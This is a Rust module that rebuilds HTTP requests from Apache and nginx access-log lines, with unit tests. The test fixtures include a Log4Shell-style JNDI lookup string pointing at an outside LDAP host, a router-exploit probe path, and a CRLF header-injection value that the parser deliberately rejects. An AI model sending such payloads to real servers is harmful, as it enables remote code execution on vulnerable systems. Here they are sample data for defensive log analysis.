//! Reads the request from a line of a web server's access log.
//!
//! In: text. Out: the request line and, for the combined format, two headers. A log has nothing
//! else of the request. Formats: Apache HTTP Server 2.4, "Log Files", "Common Log Format"; nginx,
//! `ngx_http_log_module`, `combined`, with its escapes of bytes (`\x16`).

use memchr::memchr;

/// Headers of the combined format, in its order.
const HEADERS: [&[u8]; 2] = [b"Referer: ", b"User-Agent: "];
/// What a log has in place of something that was not sent.
const NOTHING: &[u8] = b"-";

/// Returns the request of one line; `None` if the line is not from an access log.
pub(crate) fn request(text: &[u8]) -> Option<Vec<u8>> {
    let line = text.trim_ascii();
    let quote = memchr(b'"', line)?;
    let before = line[..quote].trim_ascii_end();
    let is_log = memchr(b'[', before).is_some() && before.ends_with(b"]") && !line.contains(&b'\n');
    let (mut request, rest) = quoted(&line[quote..]).filter(|_| is_log)?;
    let rest = after_status(rest)?;
    if !is_request_line(&request) {
        // The first bytes of another protocol, up to a line end.
        return (request != NOTHING).then_some(request);
    }
    request.extend(b"\r\n");
    let mut rest = rest.trim_ascii_start();
    for header in HEADERS {
        let Some((value, behind)) = quoted(rest) else {
            break;
        };
        if value != NOTHING && !value.iter().any(|byte| matches!(byte, b'\r' | b'\n')) {
            request.extend([header, &value, b"\r\n"].concat());
        }
        rest = behind.trim_ascii_start();
    }
    request.extend(b"\r\n");
    Some(request)
}

/// Returns the text after the status and the number of bytes; `None` if they are missing.
fn after_status(rest: &[u8]) -> Option<&[u8]> {
    let (status, rest) = word(rest)?;
    let (bytes, rest) = word(rest)?;
    let is_status = status.len() == 3 && status.iter().all(u8::is_ascii_digit);
    let is_bytes = bytes == NOTHING || bytes.iter().all(u8::is_ascii_digit);
    (is_status && is_bytes).then_some(rest)
}

fn word(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let text = text.trim_ascii_start();
    let end = memchr(b' ', text).unwrap_or(text.len());
    (end > 0).then(|| text.split_at(end))
}

/// Returns a text in quotes, with its escapes undone, and the bytes after it.
fn quoted(text: &[u8]) -> Option<(Vec<u8>, &[u8])> {
    let mut rest = text.strip_prefix(b"\"")?;
    let mut plain = Vec::new();
    loop {
        match rest {
            [b'"', behind @ ..] => return Some((plain, behind)),
            [b'\\', b'x', high, low, behind @ ..] => {
                let digit = |byte: u8| char::from(byte).to_digit(16);
                plain.push((digit(*high)? << 4 | digit(*low)?) as u8);
                rest = behind;
            }
            [b'\\', escaped, behind @ ..] => {
                plain.push(match escaped {
                    b'n' => b'\n',
                    b'r' => b'\r',
                    b't' => b'\t',
                    &other => other,
                });
                rest = behind;
            }
            [byte, behind @ ..] => {
                plain.push(*byte);
                rest = behind;
            }
            [] => return None,
        }
    }
}

fn is_request_line(line: &[u8]) -> bool {
    let version = line.rsplit(|&byte| byte == b' ').next().unwrap_or_default();
    version.starts_with(b"HTTP/") && !line.iter().any(|byte| matches!(byte, b'\r' | b'\n'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_is_the_request_that_it_tells_of() {
        for (line, told) in [
            (
                r#"198.51.100.7 - - [28/Nov/2026:01:02:03 +0000] "GET /cgi-bin/luci/;stok=/locale?a=b HTTP/1.1" 200 23"#,
                "GET /cgi-bin/luci/;stok=/locale?a=b HTTP/1.1\r\n\r\n",
            ),
            (
                r#"198.51.100.7 - bob [28/Nov/2026:01:02:03 +0000] "GET / HTTP/1.0" 404 - "-" "a \"b\" ${jndi:ldap://192.0.2.1/x}""#,
                "GET / HTTP/1.0\r\nUser-Agent: a \"b\" ${jndi:ldap://192.0.2.1/x}\r\n\r\n",
            ),
            (
                "  shop.example:80 2001:db8::7 - - [28/Nov/2026:01:02:03 +0000] \"POST /x\\x22y HTTP/1.1\" 200 0 \"http://a/\" \"curl/8.1\" 0.005 \"extra\"\r\n",
                "POST /x\"y HTTP/1.1\r\nReferer: http://a/\r\nUser-Agent: curl/8.1\r\n\r\n",
            ),
            (
                r#"198.51.100.7 - - [28/Nov/2026:01:02:03 +0000] "\x16\x03\x01\x00\xEE" 400 157 "-" "-""#,
                "\x16\x03\x01\0\u{ee}",
            ),
            (
                r#"198.51.100.7 - - [28/Nov/2026:01:02:03 +0000] "SSH-2.0-Go" 400 157"#,
                "SSH-2.0-Go",
            ),
            // A value with a line end would be another header.
            (
                r#"a - - [28/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "-" "x\r\nHost: y""#,
                "GET / HTTP/1.1\r\n\r\n",
            ),
        ] {
            let told: Vec<u8> = told.chars().map(|char| char as u8).collect();
            assert_eq!(request(line.as_bytes()).as_deref(), Some(&*told), "{line}");
        }
    }

    #[test]
    fn other_text_is_no_line_of_a_log() {
        for text in [
            "",
            "GET / HTTP/1.1",
            "GET /[x]?a=\"b\" HTTP/1.1",
            "GET /[\"x\" 200 1 HTTP/1.1\r\nHost: a\r\n\r\n",
            "x [y] \"GET / HTTP/1.1\"",
            "x [y] \"GET / HTTP/1.1\" 20 5",
            "x [y] \"GET / HTTP/1.1\" 200 five",
            "x [y] \"GET / HTTP/1.1 200 5",
            "x [y] \"\\xZZ\" 200 5",
            "x [y] \"-\" 408 0 \"-\" \"-\"",
            "x [y] \"GET / HTTP/1.1\" 200 5\nx [y] \"GET /b HTTP/1.1\" 200 5",
            "[1,2] \"a\": 200 1",
        ] {
            assert_eq!(request(text.as_bytes()), None, "{text}");
        }
    }
}
